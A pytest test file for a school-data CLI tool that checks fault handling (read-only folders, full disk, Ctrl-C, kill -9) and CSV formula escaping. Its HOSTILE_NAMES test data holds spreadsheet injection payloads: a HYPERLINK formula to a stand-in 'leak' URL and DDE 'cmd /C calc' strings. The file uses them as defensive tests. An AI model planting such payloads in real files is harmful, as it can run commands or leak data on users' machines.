"""What the harmonise and extract commands leave when writing fails or is stopped, and the CSV the project writes.

Each fault ends with one line on stderr and an exit status, no traceback; an earlier output is left
byte for byte as it was, with no hidden ``.partial``/``.old`` folder or file beside it (a ``kill -9``
can leave one: nothing lists it, and the next run removes it).  A read-only folder is made read-only
for real (``chattr +i`` as root, whom permissions do not stop); a full disk and Ctrl-C are a raised
``ENOSPC`` and a real SIGINT to a real process.  Every case records its outcome in the results table
(tests/battery_report.py group ``OUTPUTS``, README "Bad input and faults").
"""
from __future__ import annotations

import csv
import errno
import io
import os
import signal
import subprocess
import sys
import textwrap
import time
from contextlib import contextmanager
from pathlib import Path

import pandas as pd
import pytest

from flp_inquiry import files
from flp_inquiry.cli import main
from flp_inquiry.files import write_folder_atomic
from flp_inquiry.ingest import catalog
from flp_inquiry.ingest.harmonise import harmonise_district
from flp_inquiry.measures import extract as extract_module
from flp_inquiry.measures.extract import read_extracts, write_extract
from tests.battery_report import OUTPUTS, checking, records
from tests.conftest import FIXTURES, PROJECT
from tests.measures.test_extract import tiny_district, write_harmonised

EXPORTS = FIXTURES / "exports"


def snapshot(folder: Path) -> dict[str, bytes]:
    """Every file under ``folder``, hidden ones too, by its path: what must not change."""
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def hidden(folder: Path) -> list[str]:
    """Hidden files and folders anywhere under ``folder``: what an interrupted write would leave."""
    return sorted(str(p.relative_to(folder)) for p in folder.rglob(".*"))


@contextmanager
def read_only(folder: Path):
    """``folder`` made unwritable for real: ``chattr +i`` as root (root ignores permissions), else chmod 555."""
    if os.geteuid() == 0:
        if subprocess.run(["chattr", "+i", str(folder)], capture_output=True).returncode:
            pytest.skip("chattr +i is not available on this file system (root ignores chmod)")
        undo = lambda: subprocess.run(["chattr", "-i", str(folder)], check=True)  # noqa: E731
    else:
        folder.chmod(0o555)
        undo = lambda: folder.chmod(0o755)  # noqa: E731
    try:
        with pytest.raises(PermissionError):
            (folder / "probe").touch()
        yield
    finally:
        undo()


def run_main(capsys, *argv: str) -> tuple[int, str, str]:
    status = main(list(argv))
    captured = capsys.readouterr()
    return status, captured.out, captured.err


def harmonise_command(out: Path, district: str = "fresno") -> list[str]:
    return ["harmonise", "--district", district, "--source", str(EXPORTS / district), "--out", str(out)]


# -- harmonise: read-only folder, full disk -------------------------------------------------------

@records("a read-only output folder for harmonise: one line, exit 2, the earlier output as it was", group=OUTPUTS)
def test_harmonise_into_a_read_only_folder(tmp_path, capsys):
    out = tmp_path / "out"
    harmonise_district("fresno", EXPORTS / "fresno", out)
    before = snapshot(out)
    with read_only(out):
        status, _, err = run_main(capsys, *harmonise_command(out))
    assert status == 2
    assert err == (f"flp-inquiry harmonise: could not write the harmonised tables to {out}: permission denied "
                   "(is the folder read-only?); nothing there was changed\n")
    assert snapshot(out) == before


@pytest.mark.parametrize("earlier", [True, False])
def test_harmonise_on_a_full_disk(earlier, tmp_path, capsys, monkeypatch):
    """The disk fills up while the second table is written: that table half-written, then ENOSPC."""
    with checking("a full disk while harmonising: one line, exit 2, the earlier output as it was", "any", OUTPUTS):
        out = tmp_path / "out"
        if earlier:
            harmonise_district("fresno", EXPORTS / "fresno", out)
        before = snapshot(out) if out.exists() else {}
        real = pd.DataFrame.to_parquet

        def fill_up(frame, path, *args, **kwargs):
            if Path(path).name == "assessments.parquet":
                Path(path).write_bytes(b"PAR1 half a table")
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(path))
            return real(frame, path, *args, **kwargs)

        monkeypatch.setattr(pd.DataFrame, "to_parquet", fill_up)
        status, out_text, err = run_main(capsys, *harmonise_command(out))
        assert status == 2 and out_text == ""
        assert err == (f"flp-inquiry harmonise: could not write the harmonised tables to {out}: the disk is full; "
                       "nothing there was changed\n")
        assert (snapshot(out) if out.exists() else {}) == before
        assert not out.exists() or hidden(out) == []


# -- harmonise: Ctrl-C and kill -9 in a real process ---------------------------------------------

#: The harmonise command, paused (while reading the exports, or with every table written into the
#: hidden folder but not yet swapped in) so that a signal finds it there.
PAUSED_HARMONISE = textwrap.dedent("""
    import signal, sys, time
    from pathlib import Path
    from flp_inquiry import cli
    from flp_inquiry.ingest import harmonise

    # Ctrl-C as a terminal delivers it, even when the test itself runs in the background (where
    # the shell hands its children SIGINT ignored, and Python then never raises KeyboardInterrupt)
    signal.signal(signal.SIGINT, signal.default_int_handler)
    marker, phase = Path(sys.argv[1]), sys.argv[2]

    def pause():
        marker.write_text(phase)
        time.sleep(120)

    if phase == "reading":
        real_read = harmonise.read_export
        def read_export(*args, **kwargs):
            pause()
            return real_read(*args, **kwargs)
        harmonise.read_export = read_export
    else:
        real_write = harmonise._write_tables
        def write_tables(folder, *args):
            real_write(folder, *args)
            pause()
        harmonise._write_tables = write_tables
    sys.exit(cli.main(sys.argv[3:]))
""")


def start_paused(tmp_path: Path, phase: str, out: Path) -> subprocess.Popen:
    marker = tmp_path / "paused"
    marker.unlink(missing_ok=True)
    run = subprocess.Popen([sys.executable, "-c", PAUSED_HARMONISE, str(marker), phase, *harmonise_command(out)],
                           cwd=PROJECT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 120
    while not marker.exists() and run.poll() is None and time.monotonic() < deadline:
        time.sleep(0.05)
    assert marker.exists(), f"harmonise never reached {phase}: {run.communicate()}"
    return run


@pytest.mark.parametrize("phase", ["reading", "writing"])
def test_ctrl_c_during_harmonise(phase, tmp_path):
    with checking("Ctrl-C during harmonise (a real SIGINT): one line, exit 130, nothing half-written", "any", OUTPUTS):
        out = tmp_path / "out"
        harmonise_district("fresno", EXPORTS / "fresno", out)
        before = snapshot(out)
        run = start_paused(tmp_path, phase, out)
        if phase == "writing":
            assert len(hidden(out)) == 1  # the new tables, in their hidden folder
        run.send_signal(signal.SIGINT)  # what Ctrl-C sends
        stdout, stderr = run.communicate(timeout=60)
        assert run.returncode == 130, stderr
        assert stderr == ("flp-inquiry harmonise: interrupted (Ctrl-C); nothing was written, an earlier "
                          "harmonised folder is as it was\n")
        assert stdout == ""
        assert snapshot(out) == before and hidden(out) == []


@records("a harmonise killed (kill -9): its hidden folder is never listed, and the next run removes it",
         group=OUTPUTS)
def test_a_killed_harmonise_leaves_a_folder_nothing_lists(tmp_path, capsys):
    out = tmp_path / "out"
    harmonise_district("fresno", EXPORTS / "fresno", out)
    run = start_paused(tmp_path, "writing", out)
    run.kill()
    run.communicate(timeout=60)
    [left] = hidden(out)
    assert left.startswith(".fresno.partial-") and (out / left / "manifest.json").is_file()
    assert catalog.harmonised_districts(out) == ["fresno"]
    status, summary, _ = run_main(capsys, "summary", "--data", str(out))
    assert status == 0 and summary.split("\n")[1].split()[0] == "fresno" and "partial" not in summary
    assert len(summary.strip().split("\n")) == 2  # the header and fresno
    # a live writer's hidden folder (this process's) is left alone; the dead one's is removed
    live = out / f".fresno.partial-{files._HOST}-{os.getpid()}-live"
    live.mkdir()
    harmonise_district("fresno", EXPORTS / "fresno", out)
    assert hidden(out) == [live.name]


def dead_pid() -> int:
    """The id of a process that has ended."""
    finished = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    return int(finished.stdout)


def test_a_folder_a_killed_run_moved_aside_is_put_back(tmp_path):
    """Killed between its two renames, a run leaves the earlier folder moved aside and none in its
    place: the next write puts it back first, so a failure of that write still leaves it there."""
    with checking("a harmonise killed (kill -9): its hidden folder is never listed, and the next run removes it",
                  "any", OUTPUTS):
        pid = dead_pid()
        aside = tmp_path / f".fresno.old-{files._HOST}-{pid}-abc"
        aside.mkdir()
        (aside / "manifest.json").write_text("the earlier good folder")
        (tmp_path / f".fresno.partial-{files._HOST}-{pid}-def").mkdir()

        def fail(folder: Path) -> None:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

        with pytest.raises(OSError):
            write_folder_atomic(tmp_path / "fresno", fail)
        assert (tmp_path / "fresno" / "manifest.json").read_text() == "the earlier good folder"
        assert hidden(tmp_path) == []


def test_ctrl_c_between_the_two_renames_waits_until_the_new_folder_is_in(tmp_path, monkeypatch):
    """A real SIGINT just after the earlier folder is moved aside: held back until the new one is in
    place, then raised; the folder is whole and nothing hidden is left."""
    with checking("Ctrl-C during harmonise (a real SIGINT): one line, exit 130, nothing half-written", "any", OUTPUTS):
        target = tmp_path / "fresno"
        write_folder_atomic(target, lambda folder: (folder / "a.txt").write_text("earlier"))
        real_replace, renames = os.replace, []

        def replace(source, destination):
            real_replace(source, destination)
            renames.append(destination)
            if len(renames) == 1:
                os.kill(os.getpid(), signal.SIGINT)

        monkeypatch.setattr(os, "replace", replace)
        previous = signal.signal(signal.SIGINT, signal.default_int_handler)
        try:
            with pytest.raises(KeyboardInterrupt):
                write_folder_atomic(target, lambda folder: (folder / "a.txt").write_text("new"))
        finally:
            signal.signal(signal.SIGINT, previous)
        assert len(renames) == 2 and (target / "a.txt").read_text() == "new" and hidden(tmp_path) == []


# -- extract: read-only folder, full disk ---------------------------------------------------------

@pytest.fixture
def harmonised_and_extract(tmp_path) -> tuple[Path, Path, dict[str, bytes]]:
    """A harmonised district, its 2024 extract written, then its data changed (a new extract would differ)."""
    harmonised = write_harmonised(tiny_district("fresno"), tmp_path / "harmonised")
    out = tmp_path / "extracts"
    write_extract("fresno", 2024, data=harmonised, out=out)
    (harmonised / "fresno" / "manifest.json").write_text('{"created": "later"}', encoding="utf-8")
    return harmonised, out, snapshot(out)


@records("a read-only output folder for extract: one line, exit 2, the earlier extract as it was", group=OUTPUTS)
def test_extract_into_a_read_only_folder(harmonised_and_extract, capsys):
    harmonised, out, before = harmonised_and_extract
    with read_only(out):
        status, _, err = run_main(capsys, "extract", "--district", "fresno", "--year", "2024",
                                  "--data", str(harmonised), "--out", str(out))
    assert status == 2
    assert err == (f"flp-inquiry extract: could not write the extract fresno_2024.csv to {out}: permission denied "
                   "(is the folder read-only?); nothing there was changed\n")
    assert snapshot(out) == before


@records("a full disk while an extract is written: one line, exit 2, the earlier pair as it was", group=OUTPUTS)
def test_extract_on_a_full_disk(harmonised_and_extract, capsys, monkeypatch):
    """The CSV's hidden copy is written, the manifest's fills the disk: neither is swapped in."""
    harmonised, out, before = harmonised_and_extract
    real_mkstemp, partials = files.tempfile.mkstemp, {}

    def mkstemp(**where):
        handle, path = real_mkstemp(**where)
        partials[handle] = path
        return handle, path

    def fsync(handle):
        if ".manifest.json." in Path(partials.get(handle, "")).name:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(files.tempfile, "mkstemp", mkstemp)
    monkeypatch.setattr(files.os, "fsync", fsync)
    status, _, err = run_main(capsys, "extract", "--district", "fresno", "--year", "2024",
                              "--data", str(harmonised), "--out", str(out))
    assert status == 2
    assert err == (f"flp-inquiry extract: could not write the extract fresno_2024.csv to {out}: the disk is full; "
                   "nothing there was changed\n")
    assert snapshot(out) == before and hidden(out) == []
    assert len(read_extracts(out)) > 0  # the earlier pair still matches its manifest


# -- CSV a spreadsheet opens as text --------------------------------------------------------------

HOSTILE_NAMES = {"Sample Pe\u00f1asco Middle": '=HYPERLINK("http://example.com/?leak","Pe\u00f1asco")',
                 "Sample Roosevelt High": "@SUM(1+1)*cmd|' /C calc'!A0",
                 "Sample Tehipite Middle": "-2+3+cmd|' /C calc'!A0",
                 "Sample Lincoln Elementary": "\tTab first"}


def cells_as_a_spreadsheet_reads(text: str) -> list[list[str]]:
    """The CSV as a spreadsheet splits it: rows at any CR or LF outside quotes."""
    return list(csv.reader(io.StringIO(text, newline="")))


@records("metrics CSV: a school name that is a formula is written as text, numbers as they are", group=OUTPUTS)
def test_metrics_csv_writes_formulas_as_text(tmp_path, capsys):
    source = tmp_path / "fresno"
    source.mkdir()
    for path in (EXPORTS / "fresno").iterdir():
        text = path.read_bytes().decode("cp1252")
        for name, hostile in HOSTILE_NAMES.items():
            text = text.replace(name, '"' + hostile.replace('"', '""') + '"' if "," in hostile else hostile)
        (source / path.name).write_bytes(text.encode("cp1252"))
    harmonise_district("fresno", source, tmp_path / "out")
    status, out, err = run_main(capsys, "metrics", "dfs", "--district", "fresno", "--year", "2024", "--subject",
                                "ela", "--by", "school", "--data", str(tmp_path / "out"), "--unsuppressed")
    assert status == 0, err
    rows = cells_as_a_spreadsheet_reads(out)
    header, body = rows[0], rows[1:]
    by_school = {row[header.index("school")]: row[header.index("value")] for row in body}
    # each tested student's ELA score less grade's Level 3 minimum: 2489 - 2552 (grade 7),
    # 2650 - 2583 (grade 11), 2580 - 2567 (grade 8); Lincoln's KN student has no score
    assert by_school == {"'" + HOSTILE_NAMES["Sample Pe\u00f1asco Middle"]: "-63.0",
                         "'" + HOSTILE_NAMES["Sample Roosevelt High"]: "67.0",
                         "'" + HOSTILE_NAMES["Sample Tehipite Middle"]: "13.0"}
    assert all(not cell or cell[0] not in "=+-@\t\r" or cell.lstrip("+-").replace(".", "").isdigit()
               for row in rows for cell in row)


@records("extract CSV: a cell that is a formula is written as text and read back as it was", group=OUTPUTS)
def test_extract_writes_formulas_as_text_and_reads_them_back(tmp_path, monkeypatch):
    harmonised = write_harmonised(tiny_district("fresno"), tmp_path / "harmonised")
    real_build = extract_module.build_extract
    texts = ["=1+1", "+x", "-x", "@x", "\tx", "\rx", "'quoted", "''twice", "-5.2", "a\rb"]

    def build(data, year):
        extract = real_build(data, year).head(len(texts)).copy()
        extract["group"] = texts
        return extract

    monkeypatch.setattr(extract_module, "build_extract", build)
    out = tmp_path / "extracts"
    csv_path = write_extract("fresno", 2024, data=harmonised, out=out)
    rows = cells_as_a_spreadsheet_reads(csv_path.read_bytes().decode("utf-8"))
    group = [row[rows[0].index("group")] for row in rows[1:]]
    assert group == ["'=1+1", "'+x", "'-x", "'@x", "'\tx", "'\rx", "''quoted", "'''twice", "-5.2", "a\rb"]
    assert read_extracts(out)["group"].tolist() == texts
